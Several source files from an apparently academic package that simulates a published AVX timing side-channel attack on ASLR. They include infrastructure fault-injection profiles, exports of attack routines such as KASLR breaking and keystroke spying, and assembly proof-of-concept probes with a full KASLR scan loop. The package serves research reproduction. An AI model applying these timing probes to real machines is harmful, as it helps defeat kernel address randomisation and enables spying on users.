            self._fire("fsync_lie", path=path)
            return
        os.fsync(handle.fileno())
        if isinstance(path, str):
            try:
                self._durable[path] = handle.tell()
            except OSError:
                pass

    def before_write(self, path, data):
        """Gate one atomic replace-on-write (store/report writers)."""
        if self._fires("stall"):
            self._fire("stall", path=os.fspath(path),
                       seconds=self.profile.stall_s)
            time.sleep(self.profile.stall_s)
        if self._disk_full or self._fires("enospc"):
            if self.profile.enospc_sticky:
                self._disk_full = True
            self._fire("enospc", path=os.fspath(path))
            raise FaultInjected(
                "enospc", errno_mod.ENOSPC,
                "no space left on device (injected)",
            )
        if self._fires("eio"):
            self._fire("eio", path=os.fspath(path))
            raise FaultInjected(
                "eio", errno_mod.EIO, "I/O error (injected)",
            )
        return None

    # -- hooks called by the supervised pool -----------------------------------

    def heartbeat_skew(self):
        """Seconds of backwards clock skew for one heartbeat read."""
        if self._fires("hb_skew"):
            self._fire("hb_skew", seconds=self.profile.skew_s)
            return self.profile.skew_s
        return 0.0

    # -- test/forensics helpers ------------------------------------------------

    def fired_kinds(self):
        """The set of fault kinds that have fired so far."""
        return {record["kind"] for record in self.fired}

    def simulate_power_loss(self):
        """Cut the power after a lying fsync: truncate every file with
        un-persisted appends back to its last truly durable size.

        Returns ``{path: bytes_lost}`` for the files that lost data --
        exactly what a real power cut would take from a disk whose
        write cache lied.  Replay then sees a shorter (or torn) journal
        and the campaign re-runs the lost units; nothing is silently
        wrong, some work is simply not durable.
        """
        lost = {}
        for path, durable in sorted(self._durable.items()):
            try:
                size = os.path.getsize(path)
            except OSError:
                continue
            if size > durable:
                with open(path, "r+b") as handle:
                    handle.truncate(durable)
                    handle.flush()
                    os.fsync(handle.fileno())
                lost[path] = size - durable
        return lost
