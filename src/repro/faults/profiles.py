"""Infrastructure fault profiles: what the durability stack must survive.

Where :mod:`repro.chaos` perturbs the *microarchitecture* an attack
measures, a fault profile perturbs the *infrastructure* a campaign runs
on: the disk under the write-ahead journal, the fsync the journal
trusts, the wall clock the worker heartbeats are judged against.  A
profile is a named set of per-operation firing rates plus the fault
parameters (stall length, clock-skew magnitude, whether a full disk
stays full); the :class:`~repro.faults.injector.FaultInjector` draws
from it deterministically per campaign seed.

The fault vocabulary:

* ``enospc``  -- a journal append fails with ``ENOSPC`` (disk full);
  with ``enospc_sticky`` the disk *stays* full for that fault domain;
* ``eio``     -- a journal append fails with ``EIO`` before any byte
  lands;
* ``torn``    -- a journal append writes a chosen prefix of the record
  and then fails: the classic torn write the tail-repair and replay
  paths must contain;
* ``fsync_lie`` -- the fsync reports success without persisting; the
  data is lost if power is cut before a later honest fsync
  (:meth:`FaultInjector.simulate_power_loss` cuts it);
* ``stall``   -- a slow-disk stall of ``stall_s`` seconds before the
  append;
* ``hb_skew`` -- the supervisor reads a worker heartbeat through a
  clock skewed ``skew_s`` seconds into the past, making a healthy
  worker look frozen.

Profiles are registered in :data:`FAULT_PROFILES`;
:func:`get_fault_profile` also accepts a path to a JSON file with the
same fields, so a campaign can ship a bespoke fault matrix next to its
scenarios.
"""

import json
import os

from repro.errors import ConfigError

#: the closed fault-kind vocabulary
FAULT_KINDS = ("enospc", "eio", "torn", "fsync_lie", "stall", "hb_skew")


class FaultProfile:
    """A named, serializable infrastructure-fault mix.

    ``rates`` maps fault kind to the probability that one I/O operation
    (a journal append; one heartbeat read for ``hb_skew``) fires that
    fault.  ``shards`` (optional) restricts injection to the listed
    shard indices -- the way tests aim a dead disk at exactly one fault
    domain.  Instances are immutable in spirit: the coordinator journals
    :meth:`as_dict` into its campaign-start record so a resume rebuilds
    the same profile without re-reading any profile file.
    """

    __slots__ = ("name", "description", "rates", "stall_s", "skew_s",
                 "enospc_sticky", "shards")

    def __init__(self, name, description, rates=None, stall_s=0.005,
                 skew_s=30.0, enospc_sticky=True, shards=None):
        rates = dict(rates or {})
        unknown = sorted(set(rates) - set(FAULT_KINDS))
        if unknown:
            raise ConfigError(
                "fault profile {!r}: unknown fault kind(s) {}; known: {}"
                .format(name, ", ".join(unknown), ", ".join(FAULT_KINDS))
            )
        for kind, rate in rates.items():
            if not 0.0 <= float(rate) <= 1.0:
                raise ConfigError(
                    "fault profile {!r}: rate for {} must be in [0, 1], "
                    "got {!r}".format(name, kind, rate)
                )
        self.name = name
        self.description = description
        self.rates = {k: float(rates.get(k, 0.0)) for k in FAULT_KINDS}
        self.stall_s = float(stall_s)
        self.skew_s = float(skew_s)
        self.enospc_sticky = bool(enospc_sticky)
        self.shards = tuple(shards) if shards is not None else None

    @property
    def active_kinds(self):
        """The fault kinds with a non-zero rate, sorted."""
        return [k for k in FAULT_KINDS if self.rates[k] > 0.0]

    def applies_to(self, shard_index):
        """True when this profile injects into the given shard."""
        return self.shards is None or shard_index in self.shards

    def as_dict(self):
        return {
            "name": self.name,
            "description": self.description,
            "rates": {k: v for k, v in self.rates.items() if v > 0.0},
            "stall_s": self.stall_s,
            "skew_s": self.skew_s,
            "enospc_sticky": self.enospc_sticky,
            "shards": list(self.shards) if self.shards is not None else None,
        }

    @classmethod
    def from_dict(cls, data):
        data = dict(data)
        name = data.pop("name", "custom")
        description = data.pop("description", "custom fault profile")
        known = ("rates", "stall_s", "skew_s", "enospc_sticky", "shards")
        unknown = sorted(set(data) - set(known))
        if unknown:
            raise ConfigError(
                "fault profile {!r}: unknown field(s) {}".format(
                    name, ", ".join(unknown)
                )
            )
        kwargs = {k: data[k] for k in known if data.get(k) is not None}
        return cls(name, description, **kwargs)

    def __repr__(self):
        return "FaultProfile({!r}, active={})".format(
            self.name, self.active_kinds
        )


#: the registry `repro campaign run --fault-profile NAME` resolves in.
#: The default profile keeps every kind alive at background rates low
#: enough that a multi-shard campaign still converges: a fired disk
#: fault quarantines one shard (its work is stolen), a lying fsync only
#: matters if power is cut, a rare clock skew costs one charged retry.
FAULT_PROFILES = {
    "none": FaultProfile(
        "none", "no injected faults (the control profile)", {},
    ),
    "default": FaultProfile(
        "default",
        "every fault kind at gentle background rates",
        {"enospc": 0.0005, "eio": 0.0005, "torn": 0.0003,
         "fsync_lie": 0.005, "stall": 0.005, "hb_skew": 0.001},
    ),
    "disk-full": FaultProfile(
        "disk-full",
        "the disk fills up and stays full (sticky ENOSPC)",
        {"enospc": 0.25},
    ),
    "flaky-disk": FaultProfile(
        "flaky-disk",
        "transient EIO, torn writes and slow-disk stalls",
        {"eio": 0.05, "torn": 0.05, "stall": 0.1},
        enospc_sticky=False,
    ),
    "liar-disk": FaultProfile(
        "liar-disk",
        "every fsync lies; data survives only until the power cut",
        {"fsync_lie": 1.0},
    ),
    "skewed-clock": FaultProfile(
        "skewed-clock",
        "heartbeats judged through a badly skewed clock",
        {"hb_skew": 0.2}, skew_s=120.0,
    ),
    "hostile-infra": FaultProfile(
        "hostile-infra",
        "everything at once, at punishing rates",
        {"enospc": 0.02, "eio": 0.02, "torn": 0.01,
         "fsync_lie": 0.2, "stall": 0.05, "hb_skew": 0.02},
        skew_s=60.0,
    ),
}


def get_fault_profile(profile):
    """Resolve a profile: instance, registry name, dict, or JSON path."""
    if profile is None or isinstance(profile, FaultProfile):
        return profile
    if isinstance(profile, dict):
        return FaultProfile.from_dict(profile)
    if profile in FAULT_PROFILES:
        return FAULT_PROFILES[profile]
    if os.path.exists(profile):
        try:
            data = json.loads(open(profile).read())
        except (OSError, json.JSONDecodeError) as error:
            raise ConfigError(
                "cannot load fault profile {}: {}".format(profile, error)
            ) from error
        return FaultProfile.from_dict(data)
    raise ConfigError(
        "unknown fault profile {!r}; known: {} (or a path to a JSON "
        "profile)".format(profile, ", ".join(sorted(FAULT_PROFILES)))
    )
