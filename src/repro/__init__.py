"""repro -- AVX timing side-channel attacks against ASLR, reproduced.

A cycle-accounting simulation of the micro-architectural state behind
"AVX Timing Side-Channel Attacks against Address Space Layout
Randomization" (Choi, Kim, Shin -- DAC 2023), plus the paper's complete
attack and defense suite running on top of it.

Quickstart::

    from repro import Machine, break_kaslr

    machine = Machine.linux(cpu="i5-12400F", seed=1)
    result = break_kaslr(machine)
    assert result.base == machine.kernel.base
    print(hex(result.base), result.total_ms, "ms")
"""

from repro.attacks.behavior import BehaviorSpy
from repro.attacks.calibrate import calibrate_store_threshold
from repro.attacks.cloud_break import audit_cloud
from repro.attacks.kaslr_break import (
    break_kaslr,
    break_kaslr_amd,
    break_kaslr_intel,
)
from repro.attacks.kpti_break import break_kaslr_kpti
from repro.attacks.module_detect import detect_modules
from repro.attacks.primitives import (
    PageTableAttack,
    PermissionAttack,
    TLBAttack,
)
from repro.attacks.fingerprint import ApplicationFingerprinter
from repro.attacks.keystrokes import KeystrokeSpy
from repro.attacks.sgx_break import break_aslr_from_enclave
from repro.attacks.userspace import (
    find_user_code_base,
    identify_libraries,
    scan_rw_pages,
)
from repro.attacks.windows_break import find_entry_point
from repro.scenarios import run_scenario, run_suite
from repro.attacks.windows_break import find_kernel_region, find_kvas_region
from repro.cpu.models import CPU_CATALOG, get_cpu_model
from repro.errors import AttackError, ConfigError, PageFault, ReproError
from repro.machine import Machine

__version__ = "1.0.0"

__all__ = [
    "ApplicationFingerprinter",
    "KeystrokeSpy",
    "find_entry_point",
    "run_scenario",
    "run_suite",
    "scan_rw_pages",
    "AttackError",
    "BehaviorSpy",
    "CPU_CATALOG",
    "ConfigError",
    "Machine",
    "PageFault",
    "PageTableAttack",
    "PermissionAttack",
    "ReproError",
    "TLBAttack",
    "audit_cloud",
    "break_aslr_from_enclave",
    "break_kaslr",
    "break_kaslr_amd",
    "break_kaslr_intel",
    "break_kaslr_kpti",
    "calibrate_store_threshold",
    "detect_modules",
    "find_kernel_region",
    "find_kvas_region",
    "find_user_code_base",
    "get_cpu_model",
    "identify_libraries",
    "__version__",
]
