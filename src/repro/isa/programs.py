"""The paper's proof-of-concept kernels, written in the ISA subset.

``DOUBLE_PROBE_POC`` is the Section IV-B measurement primitive: access
the candidate address twice with an all-zero-mask VPMASKMOV and time the
second access with fenced RDTSC reads.  ``STORE_CALIBRATION_POC`` is the
threshold source: one timed zero-mask store on the attacker's own clean
read-write page.
"""

from repro.isa.executor import Executor

#: rdi = candidate address.  Returns the timed second access in rax.
DOUBLE_PROBE_POC = """
    ; AVX timing probe (P1 + P2): measure the SECOND access
    vpxor   ymm0, ymm0, ymm0        ; all-zero mask -> faults suppressed
    vpmaskmovd ymm1, ymm0, [rdi]    ; 1st access: warm TLB if mapped

    lfence
    rdtsc                           ; start timestamp
    shl     rdx, 32
    or      rax, rdx                ; full 64-bit start
    mov     r9, rax
    lfence

    vpmaskmovd ymm1, ymm0, [rdi]    ; 2nd access: the measured one

    lfence
    rdtsc                           ; stop timestamp
    shl     rdx, 32
    or      rax, rdx
    lfence

    sub     rax, r9                 ; delta
    ret
"""

#: rdi = attacker's clean rw page.  Returns the timed store in rax.
STORE_CALIBRATION_POC = """
    ; threshold calibration (Section IV-B): store on USER-M with D=0
    vpxor   ymm0, ymm0, ymm0

    lfence
    rdtsc
    shl     rdx, 32
    or      rax, rdx
    mov     r9, rax
    lfence

    vpmaskmovd [rdi], ymm0, ymm1    ; zero-mask store: A/D assist, no write

    lfence
    rdtsc
    shl     rdx, 32
    or      rax, rdx
    lfence

    sub     rax, r9
    ret
"""

#: rdi = base address, rsi = slot count, rdx(unused); probes rsi slots of
#: 2 MiB each and leaves the fastest slot index in r12 -- a full KASLR
#: scan loop expressed in the ISA (slower than the library path; for
#: demonstration and cross-validation).
KASLR_SCAN_POC = """
    mov     r10, 0                  ; slot index
    mov     r11, 0x7fffffffffffffff ; best time
    mov     r12, 0                  ; best slot
    vpxor   ymm0, ymm0, ymm0
scan:
    cmp     r10, rsi
    jge     done
    vpmaskmovd ymm1, ymm0, [rdi]    ; warm access

    lfence
    rdtsc
    shl     rdx, 32
    or      rax, rdx
    mov     r9, rax
    lfence
    vpmaskmovd ymm1, ymm0, [rdi]    ; timed access
    lfence
    rdtsc
    shl     rdx, 32
    or      rax, rdx
    lfence
    sub     rax, r9

    cmp     rax, r11                ; new minimum?
    jge     next
    mov     r11, rax
    mov     r12, r10
next:
    mov     rax, r11                ; keep r11 intact
    add     rdi, 0x200000           ; next 2 MiB slot
    add     r10, 1
    jmp     scan
done:
    ret
"""


def run_double_probe_poc(machine, address):
    """Assemble + run the double-probe PoC; returns measured cycles."""
    executor = Executor(machine.core)
    regs = executor.run(DOUBLE_PROBE_POC, inputs={"rdi": address})
    return regs.read("rax")


def run_store_calibration_poc(machine, samples=200):
    """Run the calibration PoC repeatedly; returns the mean measurement."""
    executor = Executor(machine.core)
    page = machine.playground.user_rw
    values = [
        executor.run(STORE_CALIBRATION_POC, inputs={"rdi": page}).read("rax")
        for _ in range(samples)
    ]
    return sum(values) / len(values)


def run_kaslr_scan_poc(machine, start, slots):
    """Run the full scan loop PoC; returns (best_slot, best_cycles)."""
    executor = Executor(machine.core, max_steps=60 * slots + 64)
    regs = executor.run(
        KASLR_SCAN_POC, inputs={"rdi": start, "rsi": slots}
    )
    return regs.read("r12"), regs.read("r11")
